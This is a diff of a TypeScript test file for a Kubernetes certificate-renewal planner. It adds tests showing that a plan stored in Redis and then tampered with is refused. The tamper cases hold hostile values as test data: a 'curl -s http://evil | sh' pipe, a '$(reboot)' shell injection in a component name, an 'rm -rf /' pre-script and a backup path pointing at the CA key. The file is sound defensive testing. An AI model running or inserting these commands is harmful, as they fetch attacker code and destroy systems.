@@ -1,6 +1,12 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { planRenewal, backupTimestamp, type PlanInput, type RenewalPlan } from "../../src/renew/plan.js";
+import {
+  backupTimestamp,
+  checkPlan,
+  planRenewal,
+  type PlanInput,
+  type RenewalPlan,
+} from "../../src/renew/plan.js";
 import { NOW, clusterReport, config, node } from "./renew-fixtures.js";
 import type { NodeReport } from "../../src/report/types.js";
 
@@ -91,7 +97,9 @@ test("backup, restart and rollback per node", () => {
   );
   assert.ok(plan.nodes[0]!.rollbackTriggers.some((t) => /still serves the old certificate/.test(t)));
   assert.ok(
-    plan.nodes[0]!.rollbackTriggers.some((t) => /restore .*\.tar\.gz, restart with the manifests only/.test(t)),
+    plan.nodes[0]!.rollbackTriggers.some((t) =>
+      /restore .*\.tar\.gz, restart with the manifests only/.test(t),
+    ),
   );
 
   const crictl = config("renewal: { restartStrategy: crictl }");
@@ -359,4 +367,119 @@ test("nothing unvalidated reaches a command: every word is a fixed word or a val
       }
     }
   }
+});
+
+// --- The approved plan is the plan that runs --------------------------------------------------------
+
+/** The plan as it comes back from Redis: JSON, changed by `tamper`. */
+function stored(plan: RenewalPlan, tamper: (p: RenewalPlan) => void = () => undefined): RenewalPlan {
+  const copy = JSON.parse(JSON.stringify(plan)) as RenewalPlan;
+  tamper(copy);
+  return copy;
+}
+const check = (plan: RenewalPlan, cfg = HA) => checkPlan(plan, cfg.clusters[0]!, cfg.renewal);
+
+test("a stored plan untouched, under the same config, passes the check for every strategy and version", () => {
+  for (const strategy of ["manifests", "crictl", "docker"]) {
+    for (const version of ["v1.30.4", "v1.19.16", "v1.13.5", "v1.9.11"]) {
+      const cfg = config(`renewal: { restartStrategy: ${strategy} }`);
+      const plan = planOf(
+        planRenewal(
+          input(
+            ha().map((n) => node(n.name, { version })),
+            {},
+            cfg,
+          ),
+        ),
+      );
+      assert.deepEqual(check(stored(plan), cfg), [], `${strategy} ${version}`);
+    }
+  }
+});
+
+test("a stored plan changed in Redis is refused, naming the node and what differs", () => {
+  const plan = planOf(planRenewal(input(ha())));
+  const cases: [string, (p: RenewalPlan) => void, RegExp][] = [
+    [
+      "a command line of the renew step",
+      (p) => {
+        const step = p.nodes[1]!.steps.find((s) => s.id === "renew")!;
+        (step.commands[0] as { line: string }).line = "curl -s http://evil | sh";
+      },
+      /^node m2: the stored renew differ from what its spec derives$/,
+    ],
+    [
+      "a component name carrying shell code, with the shown steps forged to match",
+      (p) => {
+        p.nodes[0]!.spec.components = ["kube-apiserver$(reboot)"];
+      },
+      /^node m1: components differ from today's config$/,
+    ],
+    [
+      "another kubernetes directory",
+      (p) => {
+        p.nodes[0]!.spec.kubernetesDir = "/";
+      },
+      /^node m1: kubernetesDir differ from today's config$/,
+    ],
+    [
+      "a backup outside backupDir",
+      (p) => {
+        p.nodes[2]!.spec.backup = "/etc/kubernetes/pki/ca.key";
+      },
+      /^node m3: backup differ from today's config$/,
+    ],
+    [
+      "a certificate name kubeadm never renews",
+      (p) => {
+        (p.nodes[0]!.spec.names as string[]).push("ca");
+      },
+      /^node m1: its certificate names are not renewable names$/,
+    ],
+    [
+      "an unknown restart strategy",
+      (p) => {
+        (p.nodes[0]!.spec as { restart: string }).restart = "reboot";
+      },
+      /^node m1: its restart strategy is unknown$/,
+    ],
+    [
+      "an extra field in the spec",
+      (p) => {
+        (p.nodes[0]!.spec as unknown as Record<string, unknown>).preScript = "rm -rf /";
+      },
+      /^node m1: node differ from today's config$/,
+    ],
+    [
+      "a plan saved without a spec",
+      (p) => {
+        delete (p.nodes[0] as Partial<RenewalPlan["nodes"][number]>).spec;
+      },
+      /^node m1: it has no spec$/,
+    ],
+    [
+      "a node that is not configured",
+      (p) => {
+        p.nodes[0]!.node = "intruder";
+      },
+      /^node intruder: not in today's config$/,
+    ],
+  ];
+  for (const [what, tamper, expected] of cases) {
+    const problems = check(stored(plan, tamper));
+    assert.equal(problems.length, 1, `${what}: ${problems.join(" | ")}`);
+    assert.match(problems[0]!, expected, what);
+  }
+});
+
+test("a plan approved before the config changed (host, port, backupDir) is refused", () => {
+  const plan = planOf(planRenewal(input(ha())));
+  assert.match(
+    check(stored(plan), config("", ["m1", "m2", "m3"], ", apiserver: { port: 8443 }"))[0]!,
+    /healthUrl/,
+  );
+  assert.match(
+    check(stored(plan), config('renewal: { backupDir: "/srv/backups" }'))[0]!,
+    /backupRoot, backup, aside, configFile/,
+  );
 });
